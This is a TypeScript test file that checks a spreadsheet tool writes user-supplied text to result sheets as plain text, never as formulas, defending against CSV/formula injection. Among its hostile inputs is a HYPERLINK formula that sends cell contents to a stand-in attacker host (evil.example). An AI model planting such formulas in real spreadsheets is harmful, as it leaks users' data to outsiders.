/**
 * Guarantee 4 (docs/security.md): text that comes from the user is written to result sheets as
 * text, never as a formula, in the .xlsx writer (inline strings, no <f>) and in the Excel host
 * (a leading apostrophe, which the fake Excel honours as Excel does), whatever it starts with.
 */
// @ts-nocheck

import type { Cell } from "../../src/core/model/grid";
import { RESULT_SHEETS } from "../../src/core/text/labels";
import { compute } from "../../src/app";
import { toExcelValue } from "../../src/host/excel/cellValues";
import { ExcelHost } from "../../src/host/excel/excelHost";
import { ExcelBed, cellsOf } from "../helpers/officeJsBed/bed";
import { ErrorCell, FormulaCell, typedAsExcel } from "../helpers/officeJsBed/workbook";
import { readWorkbookPart } from "../../src/host/file/parts/workbookPart";
import { createWorkbook } from "../../src/host/file/writeWorkbook";
import { ZipPackage } from "../../src/host/file/zip/zipPackage";
import { XlsxFileHost } from "../../src/host/file/xlsxFileHost";
import { sampleWorkbook } from "../../src/sample/sampleWorkbook";
import { day } from "../helpers/records";

const today = day("2026-11-01");
/** What spreadsheet programs read as the start of a formula, or strip before one. */
const PREFIXES = ["=", "+", "-", "@", "\t=", "\r="];
/** User text columns: names, descriptions, IDs, offices, campaigns (joins stay intact: every sheet maps alike). */
const POISONED = [
  "Office",
  "Campaign",
  "Control ID",
  "Requirement",
  "Owner",
  "Description",
  "Name",
  "Title",
  "Lead auditor",
  "Project ID",
  "Finding ID",
  "Service group",
  "Mitigation",
  "Reviewer",
];

const poison = (column: string, value: string): string =>
  `${PREFIXES[POISONED.indexOf(column) % PREFIXES.length]}${value}`;

/** The sample with every user text column prefixed, the organisation a HYPERLINK formula, and a status quoting a formula. */
function hostileSheets(): { name: string; rows: Cell[][] }[] {
  return sampleWorkbook().sheets.map((sheet) => {
    const header = sheet.rows[0].map(String);
    const rows = sheet.rows.map((row, r) =>
      row.map((cell, c) => {
        if (r === 0 || typeof cell !== "string") return cell;
        if (sheet.name === "Settings" && row[0] === "Organization" && c === 1)
          return '=HYPERLINK("https://evil.example/?"&A1,"Click")';
        if (sheet.name === "Controls" && r === 1 && header[c] === "Status") return "=1+1";
        return POISONED.includes(header[c]) ? poison(header[c], cell) : cell;
      }),
    );
    return { name: sheet.name, rows };
  });
}

const isHostile = (text: string) => /^[=+\-@\t\r]/.test(text);
const resultSheetNames = Object.values(RESULT_SHEETS) as string[];

describe("user text written to result sheets stays text", () => {
  it(".xlsx writer: every result cell holding such text is an inline string, and no result sheet has a formula", async () => {
    const host = new XlsxFileHost(createWorkbook(hostileSheets()));
    await compute(host, { today });
    const pkg = ZipPackage.open(host.bytes);
    const workbook = readWorkbookPart(pkg);
    const written = new Set<string>();
    for (const sheet of workbook.sheets) {
      if (!resultSheetNames.includes(sheet.name) && sheet.name !== "Indicator history") continue;
      const xml = pkg.getText(sheet.part as string) as string;
      expect(xml).not.toMatch(/<(\w+:)?f[\s>/]/);
      for (const cell of xml.matchAll(/<c r="([A-Z]+\d+)"([^>/]*)(?:\/>|>(.*?)<\/c>)/g)) {
        const text = /<t[^>]*>([^<]*)<\/t>/.exec(cell[3] ?? "")?.[1];
        if (text === undefined) continue;
        expect(cell[2]).toContain('t="inlineStr"');
        const decoded = text
          .replace(/_x000D_/g, "\r")
          .replace(/&amp;/g, "&")
          .replace(/&quot;/g, '"')
          .replace(/&lt;/g, "<")
          .replace(/&gt;/g, ">");
        if (isHostile(decoded)) written.add(`${sheet.name}!${decoded}`);
      }
    }
    // The hostile text did reach the result sheets: offices, campaigns, the organisation, the quoted value.
    const texts = [...written].map((w) => w.slice(w.indexOf("!") + 1));
    expect(texts).toContain(poison("Office", "Quito"));
    expect(texts).toContain(poison("Campaign", "HA 2026-H1"));
    expect(texts.some((t) => t.startsWith("=HYPERLINK("))).toBe(true);
    expect(texts).toContain("=1+1");
    expect(texts.some((t) => t.startsWith("\t") || t.startsWith("\r") || t.startsWith("@"))).toBe(true);
  });

  it("Excel host: every string is written with Excel's text prefix, so nothing becomes a formula or a number", async () => {
    // Through the real Office.js client on the simulated workbook (test/helpers/officeJsBed).
    const book = new ExcelBed();
    // Typed into Excel as text (with the apostrophe), as Excel's typing rules require.
    for (const sheet of hostileSheets())
      book.addSheet(
        sheet.name,
        sheet.rows.map((row) => row.map(toExcelValue)),
      );
    await compute(new ExcelHost(book.context), { today });
    const texts: string[] = [];
    for (const sheet of book.sheets.filter((s) => resultSheetNames.includes(s.name))) {
      for (const cell of cellsOf(sheet)) {
        expect(cell.formula).toBe(false);
        if (typeof cell.value === "string" && isHostile(cell.value)) texts.push(cell.value);
      }
    }
    expect(texts).toContain(poison("Office", "Quito"));
    expect(texts).toContain(poison("Campaign", "HA 2026-H1"));
    expect(texts.some((t) => t.startsWith("=HYPERLINK("))).toBe(true);
  });

  it("the simulated Excel types text as Excel does, so the test above could fail", () => {
    expect(typedAsExcel("=1+1")).toStrictEqual(new FormulaCell("=1+1"));
    expect(typedAsExcel("+A1")).toStrictEqual(new FormulaCell("+A1"));
    expect(typedAsExcel("-A1")).toStrictEqual(new FormulaCell("-A1"));
    expect(typedAsExcel("@SUM(1)")).toStrictEqual(new FormulaCell("@SUM(1)"));
    expect(typedAsExcel("0012")).toBe(12);
    expect(typedAsExcel("-2")).toBe(-2);
    expect(typedAsExcel("45%")).toBe(0.45);
    expect(typedAsExcel("TRUE")).toBe(true);
    expect(typedAsExcel("#N/A")).toStrictEqual(new ErrorCell("#N/A"));
    expect(typedAsExcel("'=1+1")).toBe("=1+1");
    expect(typedAsExcel("'0012")).toBe("0012");
    expect(typedAsExcel("Quito")).toBe("Quito");
  });
});
